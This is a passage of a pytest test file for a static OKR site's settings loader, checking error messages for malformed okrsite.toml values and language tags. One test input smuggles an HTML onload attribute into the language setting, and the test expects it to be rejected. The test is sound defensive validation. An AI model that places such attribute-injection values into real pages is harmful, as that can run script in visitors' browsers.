    ('[periods.Q]\nstart = 2026-01-01\nend = 2026-03-31\n[periods.Q]\nstart = 2026-01-01\n', 4, "'periods.Q' is written twice (also on line 1)"),
    ('[periods.Q]\nstart = 2026-01-01\nstart = 2026-02-01\n', 3, "'periods.Q.start' is written twice (also on line 2)"),
    ('[periods]\nQ.start = 2026-01-01\n[periods.Q]\nend = 2026-03-31\n', 3, "'periods.Q' is written twice (also on line 2)"),
    ('title = "A"\n[title]\n', 2, "'title' is written twice (also on line 1)"),
])
def test_a_key_or_table_written_twice_is_named_with_both_lines(tmp_path, toml, line, message):
    """TOML refuses a key or [table] written twice; the error says which, where the first one is, and
    to keep one, like the front matter's message for the same mistake."""
    _, report = settings_of(tmp_path, toml)
    assert [(d.line, d.message) for d in report.errors] == [(line, message)]
    assert report.errors[0].hint == "keep the one you mean and delete the other"


def test_settings_with_old_mac_line_ends_are_read_as_goals_files_are(tmp_path):
    """A lone CR ends a line in okrsite.toml as in a goals file, not TOML's "Expected newline" and a hint about quotes."""
    (tmp_path / "okrsite.toml").write_bytes(b'title = "Our goals"\rdefault_period = "2026-Q4"\r')
    report = Report()
    settings = load_settings(tmp_path, report)
    assert report.items == [] and (settings.title, settings.default_period) == ("Our goals", "2026-Q4")


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le"])
def test_settings_saved_as_utf16_are_told_to_be_saved_as_utf8(tmp_path, encoding):
    (tmp_path / "okrsite.toml").write_bytes('title = "Our goals"\r\n'.encode(encoding))
    report = Report()
    load_settings(tmp_path, report)
    [error] = report.errors
    assert (error.file, error.line, error.message) == ("okrsite.toml", 1, "the settings file is saved as UTF-16, not UTF-8")


@pytest.mark.parametrize("toml, line, hint", [
    ('title = "A"\ndefault_period = FY27-Q4\n', 2, 'write default_period = "FY27-Q4" (text goes in quotes)'),
    ('title = Acme OKRs  # ours\n', 1, 'write title = "Acme OKRs" (text goes in quotes)'),
    ('search = pagefind\n', 1, 'write search = "pagefind" (text goes in quotes)'),
    ('as_of = 2027/02/20\n', 1, "write the date as YYYY-MM-DD: as_of = 2027-02-20"),
    ('as_of = 05/12/2026\n', 1, "write the date as YYYY-MM-DD, e.g. as_of = 2026-11-23"),
    ('[periods.Q]\nstart = soon\nend = 2026-04-30\n', 2, "write the date as YYYY-MM-DD, e.g. start = 2026-02-01"),
    ('stale_after_days = 14 days\n', 1, "'stale_after_days' must be a whole number of days, at least 1"),
    ('title = "A\n', 1, "check the quotes and '=' on this line"),
])
def test_a_value_toml_cannot_read_says_how_to_write_it(tmp_path, toml, line, hint):
    """QA CG: `default_period = FY27-Q4` got "check the quotes and '=' on this line", which has no
    quotes: text is written in quotes, a date as YYYY-MM-DD (the one meant, when its year comes first)."""
    _, report = settings_of(tmp_path, toml)
    assert [(d.line, d.message[:len("unreadable TOML")], d.hint) for d in report.errors] == [(line, "unreadable TOML", hint)]


CODE_POINT_HINT = "write the character itself, or its code point as '\\U' and eight hex digits, e.g. \"\\U0001F680\" for 🚀"


@pytest.mark.parametrize("escape, message, hint", [
    ("\\uD83D\\uDE80", "'\\uD83D\\uDE80' is a UTF-16 surrogate pair: TOML escapes name code points, not UTF-16 halves",
     "write the character itself ('🚀'), or its code point: \"\\U0001F680\""),
    ("\\udc00", "'\\udc00' is half of a UTF-16 surrogate pair, no character: TOML escapes name code points, not UTF-16 halves", CODE_POINT_HINT),
    ("\\U00110000", "'\\U00110000' names no character: the last code point is U+10FFFF", CODE_POINT_HINT),
])
def test_a_surrogate_escape_in_the_settings_says_toml_escapes_name_code_points(tmp_path, escape, message, hint):
    """QA DT 4: `title = "Rocket \\uD83D\\uDE80 site"` got "check the quotes and '=' on this line"; the
    same escape in a goals file's YAML is explained, in the same words."""
    _, report = settings_of(tmp_path, f'search = "pagefind"\ntitle = "Rocket \\u00e9 {escape} site"\n')
    assert [(d.line, d.message, d.hint) for d in report.errors] == [(2, "unreadable TOML: " + message, hint)]


@pytest.mark.parametrize("toml, unread", [
    ('title = "A"\nas_of = 2027/02/20\n', True),
    ('title = "A"\nas_of = "05/12/2026"\n', True),
    ('default_period = FY27-Q4\n', False),
    ('title = "A"\n', False),
])
def test_an_as_of_date_okrsite_toml_sets_but_could_not_read_is_known_as_unread(tmp_path, toml, unread):
    """What depends on the as-of date waits for one the file sets and okrsite could not read; a file
    that sets none shows the site as of today, read or not."""
    settings, _ = settings_of(tmp_path, toml)
    assert settings.as_of_unread is unread


def test_the_language_of_the_pages_is_a_setting(tmp_path):
    assert settings_of(tmp_path, 'language = "ja"\n')[0].language == "ja"
    assert settings_of(tmp_path, 'language = "zh-Hans"\n')[0].language == "zh-Hans"
    assert settings_of(tmp_path, "")[0].language == "en"


@pytest.mark.parametrize("value", ['"Japanese"', '"ja_JP"', '""', "3"])
def test_a_language_that_is_no_language_tag_is_an_error(tmp_path, value):
    _, report = settings_of(tmp_path, f"language = {value}\n")
    assert len(report.errors) == 1 and report.errors[0].message.startswith("setting 'language'")


@pytest.mark.parametrize("tag", ["x-klingon", "en-US-x-twain", "de-DE-u-co-phonebk", "zh-yue", "en-GB-oed", "i-klingon", "zh-Hant-TW", "es-419", "de-CH-1996"])
def test_every_form_of_a_bcp_47_tag_is_a_language(tmp_path, tag):
    """QA DJ: private use, extensions, extended language subtags and grandfathered tags were refused."""
    settings, report = settings_of(tmp_path, f'language = "{tag}"\n')
    assert settings.language == tag and report.items == []


@pytest.mark.parametrize("tag", ['"ja\\" onload=\\"x"', '"en-"', '"x"', '"de-u"', '"en-x"'])
def test_what_only_begins_as_a_language_tag_is_an_error(tmp_path, tag):
    _, report = settings_of(tmp_path, f"language = {tag}\n")
    assert len(report.errors) == 1


def test_a_country_code_written_for_a_language_is_a_warning_that_names_the_language(tmp_path):
    """QA DJ: `jp`, `cn`, `kr` and `ua` were written as `<html lang="jp">`, a language no screen reader
    has a voice for. One that is a language too (`se`, Northern Sami) is a notice."""
    _, report = settings_of(tmp_path, 'title = "Acme"\nlanguage = "jp"\n')
    [warning] = report.warnings
    assert (warning.line, warning.message) == (2, "setting 'language': 'jp' is the country code of Japan, not a language, "
                                                  "so a screen reader has no voice for the pages")
    assert warning.hint.startswith("did you mean 'ja'?")
    assert [w.hint.split("?")[0] for tag in ("cn", "ua", "dk", "gr", "cz", "il", "vn") for w in settings_of(tmp_path, f'language = "{tag}"\n')[1].warnings] == \
        [f"did you mean '{meant}'" for meant in ("zh", "uk", "da", "el", "cs", "he", "vi")]
    _, report = settings_of(tmp_path, 'language = "se"\n')
    assert report.warnings == [] and [n.hint for n in report.notices] == ["for the language of Sweden write 'sv'; keep 'se' if the goals are written in Northern Sami"]
    assert settings_of(tmp_path, 'language = "ja"\n')[1].items == []
